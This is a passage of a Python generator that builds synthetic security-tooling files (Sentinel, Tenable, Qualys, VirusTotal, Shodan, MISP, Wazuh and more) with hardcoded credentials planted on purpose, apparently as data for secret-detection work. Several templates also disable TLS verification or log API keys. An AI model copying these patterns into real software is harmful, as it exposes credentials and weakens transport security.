    <add key="ExportFolder" value="D:\\SOC\\exports" />
  </appSettings>
</configuration>
''', TID=uuid4(r), CLID=uuid4(r), V=v)


@P("microsoft-sentinel", "workspace_shared_key", "py", "LA_SHARED_KEY", g_la_key, "conventional")
def sentinel_collector(r, v, c):
    return pick(r, ["forwarders/la_ingest.py", "functions/push_to_sentinel.py"]), fill('''
import base64
import datetime
import hashlib
import hmac
import json
import os

import requests

WORKSPACE_ID = "⟦WID⟧"
SHARED_KEY = ⟦V⟧
LOG_TYPE = "ThreatIntelCustom"


def build_signature(date, content_length):
    string_to_hash = f"POST\\n{content_length}\\napplication/json\\nx-ms-date:{date}\\n/api/logs"
    decoded_key = base64.b64decode(SHARED_KEY)
    digest = hmac.new(decoded_key, string_to_hash.encode("utf-8"), hashlib.sha256).digest()
    return f"SharedKey {WORKSPACE_ID}:{base64.b64encode(digest).decode()}"


def post(records):
    body = json.dumps(records)
    rfc1123 = datetime.datetime.utcnow().strftime("%a, %d %b %Y %H:%M:%S GMT")
    headers = {
        "content-type": "application/json",
        "Authorization": build_signature(rfc1123, len(body)),
        "Log-Type": LOG_TYPE,
        "x-ms-date": rfc1123,
    }
    url = f"https://{WORKSPACE_ID}.ods.opinsights.azure.com/api/logs?api-version=2016-04-01"
    return requests.post(url, data=body, headers=headers, timeout=30).status_code
''', WID=uuid4(r), V=c.q(v))


@P("microsoft-sentinel", "workspace_shared_key", "conf", "LA_SHARED_KEY", g_la_key, "neutral")
def sentinel_fluentbit(r, v, c):
    return pick(r, ["fluent-bit/fluent-bit.conf", "deploy/logging/fluent-bit.conf"]), fill('''
[SERVICE]
    Flush        5
    Log_Level    info
    Parsers_File parsers.conf

[INPUT]
    Name   tail
    Path   /var/ossec/logs/alerts/alerts.json
    Parser json
    Tag    wazuh.alerts

[OUTPUT]
    Name        azure
    Match       wazuh.*
    Customer_ID ⟦WID⟧
    Shared_Key  ⟦V⟧
    Log_Type    WazuhAlerts
''', WID=uuid4(r), V=v)


# ---------------------------------------------------------------- Tenable
@P("tenable", "secret_key", "py", "TIO_SECRET_KEY", g_hex64, "positional")
def tenable_py(r, v, c):
    return pick(r, ["vuln/export_critical.py", "scripts/tio_export.py"]), fill('''
import csv
import os
import sys

from tenable.io import TenableIO

tio = TenableIO(⟦AK⟧, ⟦V⟧, vendor="Acme SOC", product="vuln-export", build="1.4.0")

writer = csv.writer(sys.stdout)
writer.writerow(["asset", "plugin_id", "cve", "severity", "first_found"])
for vuln in tio.exports.vulns(severity=["critical", "high"], state=["open", "reopened"]):
    cves = vuln["plugin"].get("cve", [])
    writer.writerow([
        vuln["asset"].get("hostname") or vuln["asset"].get("ipv4"),
        vuln["plugin"]["id"],
        ";".join(cves),
        vuln["severity"],
        vuln["first_found"],
    ])
''', AK=c.q(c.comp(hx(r, 64), "TIO_ACCESS_KEY")), V=c.q(v))


@P("tenable", "secret_key", "sh", "TIO_SECRET_KEY", g_hex64, "header")
def tenable_sh(r, v, c):
    return pick(r, ["scripts/tio_scan_status.sh", "bin/launch-scan.sh"]), fill('''
#!/usr/bin/env bash
# launch the weekly external scan and poll until it finishes
set -euo pipefail

SCAN_ID="${1:-⟦SID⟧}"
API="https://cloud.tenable.com"
HDR="X-ApiKeys: accessKey=⟦AK⟧; secretKey=⟦V⟧"

curl -s -X POST -H "$HDR" -H "accept: application/json" "$API/scans/$SCAN_ID/launch"
while true; do
  status=$(curl -s -H "$HDR" "$API/scans/$SCAN_ID/latest-status" | jq -r .status)
  echo "$(date -u +%FT%TZ) $status"
  [[ "$status" == "completed" || "$status" == "aborted" ]] && break
  sleep 60
done
''', SID=r.randint(20, 400), AK=c.comp(hx(r, 64), "TIO_ACCESS_KEY"), V=v)


@P("tenable", "secret_key", "ini", "TIO_SECRET_KEY", g_hex64, "conventional")
def tenable_ini(r, v, c):
    return pick(r, ["config/vulnsync.ini", "etc/tenable2jira.ini"]), fill('''
; vulnerability sync: Tenable.io -> Jira
[tenable]
url = https://cloud.tenable.com
access_key = ⟦AK⟧
secret_key = ⟦V⟧
min_severity = high
tag_category = Owner

[jira]
url = https://⟦T⟧.atlassian.net
project = VULN
issue_type = Task
''', AK=c.comp(hx(r, 64), "TIO_ACCESS_KEY"), V=v, T=tenant(r))


# ---------------------------------------------------------------- Qualys
@P("qualys", "password", "ini", "QUALYS_PASSWORD", g_pw16, "conventional", docex=["passwd"])
def qualys_qcrc(r, v, c):
    return pick(r, ["config/.qcrc", "qualys/config.ini"]), fill('''
[info]
hostname = ⟦HOST⟧
username = ⟦U⟧
password = ⟦V⟧
max_retries = 10

[proxy]
; proxy_url = http://proxy.⟦DOM⟧:3128
''', HOST=pick(r, ["qualysapi.qualys.com", "qualysapi.qg2.apps.qualys.com", "qualysapi.qualys.eu"]),
                U="%s_%s%d" % (tenant(r).split("-")[0][:5], rs(r, 2, LO), r.randint(10, 99)), V=v, DOM=corp(r))


@P("qualys", "password", "sh", "QUALYS_PASSWORD", g_pw16, "basic_auth", docex=["passwd"])
def qualys_curl(r, v, c):
    return pick(r, ["scripts/qualys_hosts.sh", "bin/qualys-asset-pull.sh"]), fill('''
#!/bin/sh
# nightly asset pull for the CMDB reconciliation job
OUT=/var/lib/soc/qualys/hosts-$(date +%F).xml
curl -s -H "X-Requested-With: soc-cmdb-sync" \\
     -u "⟦U⟧:⟦V⟧" \\
     "https://⟦HOST⟧/api/2.0/fo/asset/host/?action=list&details=All&truncation_limit=0" \\
     -o "$OUT"
gzip -f "$OUT"
''', U="%s_%s%d" % (tenant(r).split("-")[0][:5], rs(r, 2, LO), r.randint(10, 99)), V=v,
                HOST=pick(r, ["qualysapi.qualys.com", "qualysapi.qg3.apps.qualys.com"]))


@P("qualys", "password", "yaml", "QUALYS_PASSWORD", g_pw16, "neutral", docex=["passwd"])
def qualys_ansible(r, v, c):
    return pick(r, ["roles/qualys_agent/defaults/main.yml", "ansible/vars/qualys.yml"]), fill('''
---
qualys_platform_url: "https://⟦HOST⟧"
qualys_activation_id: "⟦AID⟧"
qualys_customer_id: "⟦CUST⟧"
qualys_api_user: "⟦U⟧"
qualys_api_pass: "⟦V⟧"
qualys_agent_log_level: 3
qualys_cloud_agent_pkg: "QualysCloudAgent.rpm"
''', HOST=pick(r, ["qualysapi.qualys.com", "qualysapi.qg2.apps.qualys.com"]), AID=uuid4(r), CUST=uuid4(r),
                U="%s_%s%d" % (tenant(r).split("-")[0][:5], rs(r, 2, LO), r.randint(10, 99)), V=v)


# ---------------------------------------------------------------- Rapid7 Insight
@P("rapid7", "api_key", "py", "R7_API_KEY", g_uuid, "header")
def r7_py(r, v, c):
    return pick(r, ["integrations/insightidr/investigations.py", "soar/r7_close_investigations.py"]), fill('''
import os
import requests

REGION = "⟦REG⟧"
BASE = f"https://{REGION}.api.insight.rapid7.com/idr/v2"
HEADERS = {"X-Api-Key": ⟦V⟧, "Accept-version": "investigations-preview"}


def open_investigations(size=50):
    resp = requests.get(f"{BASE}/investigations", headers=HEADERS,
                        params={"statuses": "OPEN", "size": size}, timeout=30)
    resp.raise_for_status()
    return resp.json()["data"]


for inv in open_investigations():
    print(inv["rrn"], inv["priority"], inv["title"])
''', REG=pick(r, ["us", "us2", "us3", "eu", "ap"]), V=c.q(v))


@P("rapid7", "api_key", "yaml", "R7_API_KEY", g_uuid, "conventional")
def r7_yaml(r, v, c):
    return pick(r, ["config/integrations.yml", "deploy/soc-enricher/values.yaml"]), fill('''
integrations:
  insightidr:
    enabled: true
    region: ⟦REG⟧
    api_key: "⟦V⟧"
    sync_interval: 5m
  insightvm:
    enabled: false
    console_url: https://ivm.⟦DOM⟧:3780
  urlscan:
    enabled: true
    visibility: unlisted
''', REG=pick(r, ["us", "eu", "ca"]), V=v, DOM=corp(r))


@P("rapid7", "api_key", "ps1", "R7_API_KEY", g_uuid, "header")
def r7_ps1(r, v, c):
    return pick(r, ["scripts/Add-R7ThreatIndicators.ps1", "ti/Push-R7Iocs.ps1"]), fill('''
param([Parameter(Mandatory)][string]$IocFile)

$r7Key = ⟦V⟧
$threatKey = '⟦TK⟧'
$uri = "https://⟦REG⟧.api.insight.rapid7.com/idr/v1/customthreats/key/$threatKey/indicators/add?format=json"

$iocs = Get-Content $IocFile | Where-Object { $_ -and -not $_.StartsWith('#') }
$body = @{ ips = @($iocs | Where-Object { $_ -match '^\\d+\\.\\d+\\.\\d+\\.\\d+$' }) } | ConvertTo-Json
Invoke-RestMethod -Method Post -Uri $uri -Headers @{ 'X-Api-Key' = $r7Key } -Body $body -ContentType 'application/json'
''', V=c.q(v), TK=uuid4(r), REG=pick(r, ["us", "eu"]))


# ---------------------------------------------------------------- VirusTotal
@P("virustotal", "api_key", "py", "VT_API_KEY", g_hex64, "positional", docex=["<apikey>"])
def vt_py(r, v, c):
    return pick(r, ["enrichment/vt_hash_lookup.py", "playbooks/enrich_hash.py", "tools/vt_bulk.py"]), fill('''
#!/usr/bin/env python3
"""Look up a list of file hashes on VirusTotal and print detection ratios."""
import os
import sys

import vt


def main(path):
    with vt.Client(⟦V⟧) as client:
        for line in open(path):
            h = line.strip()
            if not h or h.startswith("#"):
                continue
            try:
                f = client.get_object(f"/files/{h}")
            except vt.APIError as e:
                print(h, "ERR", e.code)
                continue
            stats = f.last_analysis_stats
            print(h, f"{stats['malicious']}/{sum(stats.values())}", f.get("meaningful_name", "-"))


if __name__ == "__main__":
    main(sys.argv[1])
''', V=c.q(v))


@P("virustotal", "api_key", "yaml", "VT_API_KEY", g_hex64, "neutral", docex=["<apikey>"])
def vt_cortex_yaml(r, v, c):
    return pick(r, ["cortex/analyzers.yml", "config/enrichment.yaml"]), fill('''
analyzers:
  - name: VirusTotal_GetReport_3_1
    enabled: true
    rate_limit: 4/min
    config:
      key: "⟦V⟧"
      polling_interval: 60
      download_sample: false
  - name: MaxMind_GeoIP_4_0
    enabled: true
  - name: Abuse_Finder_3_0
    enabled: true
jobs:
  cache_ttl: 86400
  max_tlp: 2
''', V=v)


@P("virustotal", "api_key", "go", "VT_API_KEY", g_hex64, "header", docex=["<apikey>"])
def vt_go(r, v, c):
    return pick(r, ["internal/enrich/virustotal.go", "pkg/vt/client.go"]), fill('''
package enrich

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"time"
)

var vtKey = ⟦V⟧

type VTStats struct {
	Malicious  int `json:"malicious"`
	Suspicious int `json:"suspicious"`
	Undetected int `json:"undetected"`
}

func LookupDomain(domain string) (*VTStats, error) {
	req, err := http.NewRequest("GET", "https://www.virustotal.com/api/v3/domains/"+domain, nil)
	if err != nil {
		return nil, err
	}
	req.Header.Add("x-apikey", vtKey)
	c := &http.Client{Timeout: 15 * time.Second}
	resp, err := c.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		fmt.Fprintf(os.Stderr, "vt: %s -> %d\\n", domain, resp.StatusCode)
		return nil, fmt.Errorf("status %d", resp.StatusCode)
	}
	var body struct {
		Data struct {
			Attributes struct {
				Stats VTStats `json:"last_analysis_stats"`
			} `json:"attributes"`
		} `json:"data"`
	}
	err = json.NewDecoder(resp.Body).Decode(&body)
	return &body.Data.Attributes.Stats, err
}
''', V=c.q(v))


@P("virustotal", "api_key", "json", "VT_API_KEY", g_hex64, "header", docex=["<apikey>"])
def vt_tines_story(r, v, c):
    return pick(r, ["tines/stories/hash-enrichment.json", "exports/phishing-triage.json"]), fill('''
{
  "schema_version": 23,
  "standard_lib_version": 54,
  "name": "Hash enrichment",
  "agents": [
    {
      "type": "Agents::WebhookAgent",
      "name": "Receive EDR alert",
      "disabled": false,
      "options": {"path": "⟦P⟧", "secret": "<<RESOURCE.edr_webhook_secret>>", "verbs": "post"}
    },
    {
      "type": "Agents::HTTPRequestAgent",
      "name": "Get file report",
      "disabled": false,
      "options": {
        "url": "https://www.virustotal.com/api/v3/files/<<receive_edr_alert.body.sha256>>",
        "method": "get",
        "headers": {"x-apikey": "⟦V⟧"}
      }
    }
  ],
  "links": [{"source": 0, "receiver": 1}]
}
''', P=hx(r, 32), V=v)


@P("virustotal", "api_key", "env", "VT_API_KEY", g_hex64, "conventional", docex=["<apikey>"])
def vt_env(r, v, c):
    return c.envfile(), fill('''
# soc-enricher runtime settings
LOG_LEVEL=info
REDIS_URL=redis://redis:6379/0
VT_API_KEY=⟦V⟧
VT_RATE_LIMIT_PER_MIN=4
MISP_URL=https://misp.⟦DOM⟧
ENRICH_TIMEOUT=30
''', V=v, DOM=corp(r))


# ---------------------------------------------------------------- Shodan
@P("shodan", "api_key", "py", "SHODAN_API_KEY", g_an32, "positional", docex=["SHODAN1234567890EXAMPLE", "{YOUR_API_KEY}"])
def shodan_py(r, v, c):
    return pick(r, ["recon/exposure_check.py", "asm/shodan_watch.py"]), fill('''
import os
import ipaddress

import shodan

api = shodan.Shodan(⟦V⟧)
NETBLOCKS = ["⟦NB1⟧/24", "⟦NB2⟧/26"]

for block in NETBLOCKS:
    for ip in ipaddress.ip_network(block, strict=False).hosts():
        try:
            host = api.host(str(ip), minify=True)
        except shodan.APIError:
            continue
        ports = ",".join(str(p) for p in host.get("ports", []))
        print(f"{ip}\\t{host.get('org', '-')}\\t{ports}\\t{','.join(host.get('vulns', []))}")
''', V=c.q(v), NB1=pub_ip(r).rsplit(".", 1)[0] + ".0", NB2=pub_ip(r).rsplit(".", 1)[0] + ".64")


@P("shodan", "api_key", "sh", "SHODAN_API_KEY", g_an32, "positional", docex=["SHODAN1234567890EXAMPLE"])
def shodan_sh(r, v, c):
    return pick(r, ["scripts/bootstrap-recon.sh", "docker/recon/entrypoint.sh"]), fill('''
#!/usr/bin/env bash
set -e
pip install --quiet shodan==1.31.0
shodan init ⟦V⟧
shodan alert create "⟦T⟧-perimeter" ⟦NB⟧/24
shodan alert enable "$(shodan alert list | awk '/⟦T⟧-perimeter/ {print $1}')" malware,open_database,vulnerable
exec "$@"
''', V=v, T=tenant(r), NB=pub_ip(r).rsplit(".", 1)[0] + ".0")


@P("shodan", "api_key", "kql", "SHODAN_API_KEY", g_an32, "url", docex=["SHODAN1234567890EXAMPLE", "{YOUR_API_KEY}"])
def shodan_kql(r, v, c):
    return pick(r, ["hunting/shodan_exposure.kql", "sentinel/queries/external_exposure.kql"]), fill('''
// Join Shodan alert data with firewall allow-list to spot exposed services
let shodan = externaldata(ip_str:string, port:int, product:string, timestamp:datetime)
    [h@"https://api.shodan.io/shodan/alert/⟦AID⟧/info?key=⟦V⟧"]
    with(format="multijson");
CommonSecurityLog
| where TimeGenerated > ago(7d)
| where DeviceAction == "allow"
| join kind=inner (shodan) on $left.DestinationIP == $right.ip_str
| summarize hits=count(), ports=make_set(port) by DestinationIP, product
| order by hits desc
''', AID=rs(r, 16, UP + DG), V=v)


# ---------------------------------------------------------------- Censys
@P("censys", "api_secret", "py", "CENSYS_API_SECRET", g_an32, "ctor_arg", docex=["XXX"])
def censys_py(r, v, c):
    return pick(r, ["asm/censys_certs.py", "recon/censys_hosts.py"]), fill('''
import os
from censys.search import CensysHosts

h = CensysHosts(api_id="⟦AID⟧", api_secret=⟦V⟧)

query = 'services.tls.certificates.leaf_data.subject.organization: "⟦ORG⟧"'
for page in h.search(query, per_page=100, pages=3):
    for host in page:
        services = ", ".join(f"{s['port']}/{s['service_name']}" for s in host.get("services", []))
        print(host["ip"], host.get("autonomous_system", {}).get("name", "-"), services)
''', AID=uuid4(r), V=c.q(v), ORG=pick(r, ["Acme Corp", "Northwind Traders", "Globex"]))


@P("censys", "api_secret", "ini", "CENSYS_API_SECRET", g_an32, "conventional", docex=["XXX"])
def censys_cfg(r, v, c):
    return pick(r, ["config/censys/censys.cfg", "docker/recon/censys.cfg"]), fill('''
[DEFAULT]
api_id = ⟦AID⟧
api_secret = ⟦V⟧
color = auto
asm_api_key =
''', AID=uuid4(r), V=v)


# ---------------------------------------------------------------- GreyNoise
@P("greynoise", "api_key", "py", "GREYNOISE_API_KEY", g_an64, "ctor_arg", docex=["<<ApiKeyHeader>>"])
def gn_py(r, v, c):
    return pick(r, ["enrichment/greynoise_filter.py", "scripts/noise_filter.py"]), fill('''
"""Drop internet background noise from the firewall deny feed before it reaches the SIEM."""
import os
import sys

from greynoise import GreyNoise

gn = GreyNoise(api_key=⟦V⟧, integration_name="soc-noise-filter-v2")

ips = [l.strip() for l in sys.stdin if l.strip()]
for res in gn.quick(ips):
    if not res.get("noise") and not res.get("riot"):
        print(res["ip"])
''', V=c.q(v))


@P("greynoise", "api_key", "yaml", "GREYNOISE_API_KEY", g_an64, "conventional", docex=["<<ApiKeyHeader>>"])
def gn_compose(r, v, c):
    return pick(r, ["docker-compose.yml", "deploy/compose/enricher.yml"]), fill('''
services:
  enricher:
    image: ghcr.io/⟦T⟧/soc-enricher:⟦VER⟧
    restart: unless-stopped
    environment:
      LOG_LEVEL: info
      GREYNOISE_API_KEY: "⟦V⟧"
      REDIS_URL: redis://redis:6379/1
    depends_on:
      - redis
  redis:
    image: redis:7-alpine
    volumes:
      - redis-data:/data
volumes:
  redis-data: {}
''', T=tenant(r), VER="1.%d.%d" % (r.randint(0, 9), r.randint(0, 20)), V=v)


@P("greynoise", "api_key", "docker", "GREYNOISE_API_KEY", g_an64, "conventional", docex=["<<ApiKeyHeader>>"])
def gn_dockerfile(r, v, c):
    return pick(r, ["Dockerfile", "docker/noise-filter/Dockerfile"]), fill('''
FROM python:3.12-slim
WORKDIR /app
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt
COPY noise_filter/ ./noise_filter/
ENV PYTHONUNBUFFERED=1 \\
    GREYNOISE_API_KEY=⟦V⟧ \\
    GN_INTEGRATION=noise-filter
USER 1000
ENTRYPOINT ["python", "-m", "noise_filter"]
''', V=v)


# ---------------------------------------------------------------- AbuseIPDB
@P("abuseipdb", "api_key", "conf", "ABUSEIPDB_API_KEY", g_hex80, "named_param", docex=["YOUR_OWN_API_KEY", "<abuseipdb_apikey>"])
def abuse_fail2ban(r, v, c):
    return pick(r, ["ansible/roles/fail2ban/files/jail.local", "fail2ban/jail.local"]), fill('''
[DEFAULT]
bantime  = 1h
findtime = 10m
maxretry = 5
ignoreip = 127.0.0.1/8 ⟦NET⟧

[sshd]
enabled  = true
port     = ssh
action   = %(action_)s
           abuseipdb[abuseipdb_apikey="⟦V⟧", abuseipdb_category="18,22"]

[nginx-botsearch]
enabled  = true
port     = http,https
logpath  = /var/log/nginx/access.log
''', NET="10.%d.0.0/16" % r.randint(0, 60), V=v)


@P("abuseipdb", "api_key", "py", "ABUSEIPDB_API_KEY", g_hex80, "header", docex=["YOUR_OWN_API_KEY"])
def abuse_py(r, v, c):
    return pick(r, ["enrichment/abuseipdb.py", "soar/actions/ip_reputation.py"]), fill('''
import os
import requests

API = "https://api.abuseipdb.com/api/v2/check"
HEADERS = {
    "Key": ⟦V⟧,
    "Accept": "application/json",
}


def reputation(ip, days=90):
    resp = requests.get(API, headers=HEADERS, params={"ipAddress": ip, "maxAgeInDays": days}, timeout=20)
    resp.raise_for_status()
    data = resp.json()["data"]
    return {
        "ip": ip,
        "score": data["abuseConfidenceScore"],
        "reports": data["totalReports"],
        "isp": data.get("isp"),
        "country": data.get("countryCode"),
    }
''', V=c.q(v))


@P("abuseipdb", "api_key", "log", "ABUSEIPDB_API_KEY", g_hex80, "header", docex=["YOUR_OWN_API_KEY"])
def abuse_log(r, v, c):
    base = dt(r)
    lines = []
    for i in range(3):
        t = (base + timedelta(seconds=i * 2)).strftime("%Y-%m-%d %H:%M:%S,") + "%03d" % r.randint(0, 999)
        lines.append("%s INFO enricher.worker picked job id=%d type=ip_reputation value=%s" % (t, r.randint(10000, 99999), pub_ip(r)))
    t = (base + timedelta(seconds=7)).strftime("%Y-%m-%d %H:%M:%S,") + "%03d" % r.randint(0, 999)
    lines.append("%s DEBUG urllib3.connectionpool Starting new HTTPS connection (1): api.abuseipdb.com:443" % t)
    lines.append("%s DEBUG enricher.http GET https://api.abuseipdb.com/api/v2/check?ipAddress=%s headers={'Key': '⟦V⟧', 'Accept': 'application/json', 'User-Agent': 'soc-enricher/2.3'}" % (t, pub_ip(r)))
    lines.append("%s DEBUG urllib3.connectionpool https://api.abuseipdb.com:443 \"GET /api/v2/check HTTP/1.1\" 200 412" % t)
    lines.append("%s INFO enricher.worker job done score=%d" % (t, r.randint(0, 100)))
    return pick(r, ["logs/enricher-debug.log", "var/log/soc-enricher.log"]), fill("\n".join(lines) + "\n", V=v)


# ---------------------------------------------------------------- urlscan.io
@P("urlscan", "api_key", "py", "URLSCAN_API_KEY", g_uuid, "conventional", docex=["YOUR_API_KEY_HERE"])
def urlscan_py(r, v, c):
    return pick(r, ["phishing/submit_urlscan.py", "playbooks/phish_detonate.py"]), fill('''
import os
import time

import requests

URLSCAN_API_KEY = ⟦V⟧


def submit(url, visibility="unlisted"):
    resp = requests.post(
        "https://urlscan.io/api/v1/scan/",
        headers={"api-key": URLSCAN_API_KEY, "Content-Type": "application/json"},
        json={"url": url, "visibility": visibility, "tags": ["phish-triage"]},
        timeout=30,
    )
    resp.raise_for_status()
    return resp.json()["uuid"]


def result(scan_id, tries=10):
    for _ in range(tries):
        r = requests.get(f"https://urlscan.io/api/v1/result/{scan_id}/",
                         headers={"api-key": URLSCAN_API_KEY}, timeout=30)
        if r.status_code == 200:
            return r.json()["verdicts"]["overall"]
        time.sleep(10)
    return None
''', V=c.q(v))


@P("urlscan", "api_key", "json", "URLSCAN_API_KEY", g_uuid, "neutral", docex=["YOUR_API_KEY_HERE"])
def urlscan_cortex_json(r, v, c):
    return pick(r, ["cortex/config/analyzers-export.json", "config/cortex_analyzers.json"]), fill('''
[
  {
    "name": "Urlscan_io_Scan_0_1_1",
    "analyzerDefinitionId": "Urlscan_io_Scan_0_1_1",
    "configuration": {
      "key": "⟦V⟧",
      "visibility": "unlisted",
      "auto_extract_artifacts": true,
      "check_tlp": true,
      "max_tlp": 2
    },
    "jobCache": 60,
    "rate": 50,
    "rateUnit": "Day"
  },
  {
    "name": "Abuse_Finder_3_0",
    "analyzerDefinitionId": "Abuse_Finder_3_0",
    "configuration": {"check_tlp": true, "max_tlp": 3}
  }
]
''', V=v)


@P("urlscan", "api_key", "csv", "URLSCAN_API_KEY", g_uuid, "neutral", docex=["YOUR_API_KEY_HERE"])
def urlscan_csv(r, v, c):
    rows = ["integration,owner,endpoint,credential,rotated",
            "virustotal,%s,https://www.virustotal.com/api/v3,vault:secret/data/soc/virustotal#api_key,%s" % (pick(r, ANALYSTS), day(r)),
            "urlscan,%s,https://urlscan.io/api/v1,⟦V⟧,%s" % (pick(r, ANALYSTS), day(r)),
            "greynoise,%s,https://api.greynoise.io/v3,vault:secret/data/soc/greynoise#api_key,%s" % (pick(r, ANALYSTS), day(r)),
            "misp,%s,https://misp.%s,vault:secret/data/soc/misp#authkey,%s" % (pick(r, ANALYSTS), corp(r), day(r))]
    return pick(r, ["docs/integrations.csv", "inventory/ti_integrations.csv"]), fill("\n".join(rows) + "\n", V=v)


# ---------------------------------------------------------------- MISP
@P("misp", "auth_key", "py", "MISP_KEY", g_an40, "positional", docex=["YOUR_API_KEY"])
def misp_py(r, v, c):
    return pick(r, ["ti/push_iocs_to_misp.py", "scripts/misp_sighting.py"]), fill('''
import os
import sys

from pymisp import MISPEvent, PyMISP

misp = PyMISP("https://misp.⟦DOM⟧", ⟦V⟧, ssl=True)

event = MISPEvent()
event.info = f"Phishing wave {sys.argv[1]}"
event.distribution = 1
event.threat_level_id = 2
event.analysis = 1
event.add_tag("tlp:amber")
for line in open(sys.argv[2]):
    value = line.strip()
    if value:
        event.add_attribute("url" if value.startswith("http") else "domain", value, to_ids=True)
misp.add_event(event, pythonify=True)
''', DOM=corp(r), V=c.q(v))


@P("misp", "auth_key", "hocon", "MISP_KEY", g_an40, "neutral", docex=["YOUR_API_KEY"])
def misp_thehive_conf(r, v, c):
    kv = v.code() if isinstance(v, Expr) else '"' + v + '"'
    return pick(r, ["thehive/conf/application.conf", "docker/thehive/application.conf"]), fill('''
# TheHive MISP connector
play.modules.enabled += org.thp.thehive.connector.misp.MispModule

misp {
  interval: 1 hour
  servers: [
    {
      name = "MISP-⟦T⟧"
      url = "https://misp.⟦DOM⟧"
      auth {
        type = key
        key = ⟦V⟧
      }
      wsConfig.ssl.trustManager.stores = [{ type: "PEM", path: "/etc/thehive/ca.pem" }]
      caseTemplate = "misp-import"
      tags = ["misp", "⟦T⟧"]
      purpose = ImportAndExport
    }
  ]
}
''', T=tenant(r), DOM=corp(r), V=kv)


@P("misp", "auth_key", "sql", "MISP_KEY", g_an40, "neutral", docex=["YOUR_API_KEY"])
def misp_sql(r, v, c):
    return pick(r, ["db/seed/002_integrations.sql", "migrations/0007_seed_connectors.sql"]), fill('''
-- seed connector rows for the staging SOAR database
INSERT INTO connectors (name, base_url, auth_type, secret, enabled, created_at) VALUES
  ('misp', 'https://misp.⟦DOM⟧', 'authorization_header', '⟦V⟧', TRUE, '⟦D⟧'),
  ('opencti', 'https://opencti.⟦DOM⟧', 'bearer', NULL, FALSE, '⟦D⟧');

INSERT INTO connector_settings (connector, key, value) VALUES
  ('misp', 'verify_tls', 'true'),
  ('misp', 'default_distribution', '1'),
  ('misp', 'publish', 'false');
''', DOM=corp(r), V=v, D=day(r))


# ---------------------------------------------------------------- TheHive / Cortex
@P("thehive", "api_key", "py", "THEHIVE_API_KEY", g_thehive, "positional")
def thehive_py(r, v, c):
    return pick(r, ["soar/create_alert.py", "connectors/siem_to_thehive.py"]), fill('''
import os
import uuid

from thehive4py.api import TheHiveApi
from thehive4py.models import Alert, AlertArtifact

api = TheHiveApi("https://thehive.⟦DOM⟧", ⟦V⟧)


def raise_alert(rule, host, src_ip):
    artifacts = [AlertArtifact(dataType="ip", data=src_ip), AlertArtifact(dataType="hostname", data=host)]
    alert = Alert(title=f"[SIEM] {rule}", tlp=2, tags=["siem", "auto"], description=f"Rule {rule} fired on {host}",
                  type="siem", source="elastic", sourceRef=str(uuid.uuid4())[:8], artifacts=artifacts)
    resp = api.create_alert(alert)
    resp.raise_for_status()
    return resp.json()["id"]
''', DOM=corp(r), V=c.q(v))


@P("cortex", "api_key", "hocon", "CORTEX_API_KEY", g_an32, "neutral")
def cortex_conf(r, v, c):
    kv = v.code() if isinstance(v, Expr) else '"' + v + '"'
    return pick(r, ["thehive/conf/cortex.conf", "docker/thehive/conf.d/cortex.conf"]), fill('''
play.modules.enabled += org.thp.thehive.connector.cortex.CortexModule
cortex {
  servers = [
    {
      name = local
      url = "http://cortex:9001"
      auth {
        type = "bearer"
        key = ⟦V⟧
      }
      wsConfig {}
    }
  ]
  refreshDelay = 5 seconds
  maxRetryOnError = 3
  statusCheckInterval = 1 minute
}
''', V=kv)


@P("thehive", "api_key", "sh", "THEHIVE_API_KEY", g_thehive, "header")
def thehive_curl(r, v, c):
    return pick(r, ["scripts/close_stale_alerts.sh", "bin/thehive-bulk-close.sh"]), fill('''
#!/usr/bin/env bash
# close alerts older than 30 days that nobody imported
THEHIVE=https://thehive.⟦DOM⟧
since=$(( ($(date +%s) - 30*86400) * 1000 ))
curl -s -X POST "$THEHIVE/api/v1/query" \\
  -H 'Authorization: Bearer ⟦V⟧' \\
  -H 'Content-Type: application/json' \\
  -d "{\\"query\\":[{\\"_name\\":\\"listAlert\\"},{\\"_name\\":\\"filter\\",\\"_and\\":[{\\"_lt\\":{\\"_field\\":\\"_createdAt\\",\\"_value\\":$since}},{\\"_field\\":\\"status\\",\\"_value\\":\\"New\\"}]}]}" \\
  | jq -r '.[]._id'
''', DOM=corp(r), V=v)


# ---------------------------------------------------------------- Wazuh
@P("wazuh", "password", "yaml", "WAZUH_API_PASSWORD", g_wazuh_pw, "conventional", docex=["MyS3cr37P450r.*-"])
def wazuh_dashboard(r, v, c):
    return pick(r, ["wazuh/dashboard/wazuh.yml", "config/wazuh_dashboard/wazuh.yml"]), fill('''
hosts:
  - default:
      url: https://wazuh.manager
      port: 55000
      username: wazuh-wui
      password: "⟦V⟧"
      run_as: false
pattern: wazuh-alerts-*
checks.pattern: true
checks.template: true
timeout: 20000
enrollment.dns: "wazuh.⟦DOM⟧"
''', V=v, DOM=corp(r))


@P("wazuh", "password", "py", "WAZUH_API_PASSWORD", g_wazuh_pw, "positional", docex=["MyS3cr37P450r.*-"])
def wazuh_py(r, v, c):
    return pick(r, ["scripts/wazuh_active_response.py", "soar/wazuh_isolate.py"]), fill('''
import os
import requests
import urllib3

urllib3.disable_warnings()
MANAGER = "https://⟦HOST⟧:55000"


def token():
    r = requests.post(f"{MANAGER}/security/user/authenticate",
                      auth=("⟦U⟧", ⟦V⟧), verify=False, timeout=15)
    r.raise_for_status()
    return r.json()["data"]["token"]


def firewall_drop(agent_id, ip):
    headers = {"Authorization": f"Bearer {token()}"}
    body = {"command": "firewall-drop0", "alert": {"data": {"srcip": ip}}}
    return requests.put(f"{MANAGER}/active-response", params={"agents_list": agent_id},
                        json=body, headers=headers, verify=False, timeout=15).json()
''', HOST=pick(r, ["wazuh-manager", "wazuh." + corp(r), int_ip(r)]), U=pick(r, ["wazuh", "soar-ar"]), V=c.q(v))


@P("wazuh", "password", "sh", "WAZUH_API_PASSWORD", g_wazuh_pw, "basic_auth", docex=["MyS3cr37P450r.*-"])
def wazuh_sh(r, v, c):
    return pick(r, ["scripts/wazuh_agents_report.sh", "bin/wazuh-disconnected.sh"]), fill('''
#!/bin/bash
# list disconnected agents (daily cron on the jump host)
TOKEN=$(curl -s -u wazuh:⟦V⟧ -k -X POST "https://⟦HOST⟧:55000/security/user/authenticate?raw=true")
curl -s -k -H "Authorization: Bearer $TOKEN" \\
  "https://⟦HOST⟧:55000/agents?status=disconnected&select=id,name,ip,lastKeepAlive&limit=500" \\
